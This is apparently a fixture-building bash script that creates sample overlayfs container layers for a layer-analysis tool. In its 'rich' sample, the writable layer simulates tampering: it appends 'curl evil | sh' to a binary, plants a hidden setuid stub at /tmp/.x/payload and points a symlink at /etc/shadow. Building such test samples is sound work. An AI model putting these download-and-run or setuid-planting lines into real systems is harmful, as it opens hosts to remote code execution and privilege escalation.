#!/usr/bin/env bash
# Rebuild the sample layer archives with the kernel's own overlayfs (needs root).
#
#   sudo samples/make-samples.sh [OUTDIR]      (default: the samples/ directory itself)
#
# Each sample is a stack of layers, each layer a `tar --xattrs` archive (git cannot hold the
# 0/0 character devices that are the kernel's whiteouts). Every change is made through a real
# overlay mount, so the upper layers hold exactly what the kernel writes. Times are pinned so
# the reports are stable; the archives still differ from run to run in the kernel's own
# bookkeeping (the random trusted.overlay.uuid, inode numbers inside trusted.overlay.origin).
set -euo pipefail
here=$(cd "$(dirname "$0")" && pwd)
out=${1:-$here}
work=$(mktemp -d)
trap 'umount -q "$work"/*/merged 2>/dev/null || true; rm -rf "$work"' EXIT
stamp=200001010000        # every file and directory the recipe makes: 2000-01-01 00:00 UTC
export TZ=UTC

pin() { find "$1" -exec touch -h -t "$stamp" {} +; }
pack() {  # pack DIR ARCHIVE: a reproducible tar with xattrs, numeric owners, sorted names
  tar --xattrs --xattrs-include='*' --numeric-owner --sort=name --format=posix --pax-option=exthdr.name=%d/PaxHeaders/%f,delete=atime,delete=ctime \
      -C "$1" -cf "$2" .
}
mountit() {  # mountit STACKDIR LOWERDIRS [OPTIONS]
  mkdir -p "$1/work" "$1/merged"
  mount -t overlay overlay -o "lowerdir=$2,upperdir=$1/upper,workdir=$1/work${3:+,$3}" "$1/merged"
}

# --- 1. the OverlayFS experiment from the classic Docker-image walkthrough -------------------
s=$work/experiment; mkdir -p "$s"/{material,material2,upper}
echo "bad concrete" > "$s/material/concrete"; echo "rebar" > "$s/material/rebar"
echo "good concrete" > "$s/material2/concrete"; echo "marble" > "$s/material2/marble"
pin "$s/material"; pin "$s/material2"; touch -t "$stamp" "$s/upper"
mountit "$s" "$s/material2:$s/material"
echo "main structure" > "$s/merged/frame"
rm "$s/merged/marble"
touch -h -t "$stamp" "$s/merged/frame"
umount "$s/merged"
mkdir -p "$out/experiment"
pack "$s/material" "$out/experiment/material.tar"
pack "$s/material2" "$out/experiment/material2.tar"
pack "$s/upper" "$out/experiment/build.tar"

# --- 2. a richer stack: opaque dir, copy-ups, metacopy, a redirect, lower-layer whiteouts ----
r=$work/rich; mkdir -p "$r"/{base,mid/upper,upper}
b=$r/base
mkdir -p "$b"/etc "$b"/usr/bin "$b"/var/log "$b"/opt/app/lib "$b"/home/user "$b"/srv/www
echo "root:x:0:0:root:/root:/bin/sh" > "$b/etc/passwd"
echo "nameserver 10.0.0.1" > "$b/etc/resolv.conf"
printf '#!/bin/sh\necho tool\n' > "$b/usr/bin/tool"; chmod 755 "$b/usr/bin/tool"
head -c 65536 /dev/zero | tr '\0' 'L' > "$b/var/log/app.log"
echo a > "$b/opt/app/a"; echo b > "$b/opt/app/lib/b"; echo c > "$b/opt/app/lib/c"
echo "remember" > "$b/home/user/notes"; echo "<h1>hi</h1>" > "$b/srv/www/index.html"
ln -s ../usr/bin/tool "$b/etc/tool-link"
pin "$b"
# the image's second layer, made by the kernel: deletes a file, replaces a directory
touch -t "$stamp" "$r/mid/upper"
mountit "$r/mid" "$b"
rm "$r/mid/merged/etc/resolv.conf"
rm -rf "$r/mid/merged/srv/www"; mkdir "$r/mid/merged/srv/www"; echo "<h1>v2</h1>" > "$r/mid/merged/srv/www/index.html"
touch -h -t "$stamp" "$r/mid/merged/srv/www/index.html"
umount "$r/mid/merged"
# the container's writable layer, with redirect_dir and metacopy on
touch -t "$stamp" "$r/upper"
mountit "$r" "$r/mid/upper:$b" "redirect_dir=on,metacopy=on"
m=$r/merged
chmod 600 "$m/etc/passwd"                                # metacopy: metadata-only copy-up
printf 'curl evil | sh\n' >> "$m/usr/bin/tool"           # content change (full copy-up)
touch -t 202001010000 "$m/var/log/app.log"               # copy-up with only a new mtime
rm -rf "$m/opt/app"; mkdir "$m/opt/app"; echo new > "$m/opt/app/a"   # opaque directory
mv "$m/home/user" "$m/home/admin"                        # redirect + whiteout
rm "$m/srv/www/index.html"                               # whiteout over the mid layer's file
mkdir -p "$m/tmp/.x"; printf '\177ELF' > "$m/tmp/.x/payload"; chmod 4755 "$m/tmp/.x/payload"
ln -sf /etc/shadow "$m/etc/tool-link"                    # symlink retargeted
for f in "$m/opt/app/a" "$m/tmp/.x/payload" "$m/tmp/.x" "$m/tmp" "$m/etc/tool-link"; do touch -h -t "$stamp" "$f"; done
umount "$m"
mkdir -p "$out/rich"
pack "$b" "$out/rich/base.tar"
pack "$r/mid/upper" "$out/rich/mid.tar"
pack "$r/upper" "$out/rich/upper.tar"
echo "samples written to $out"
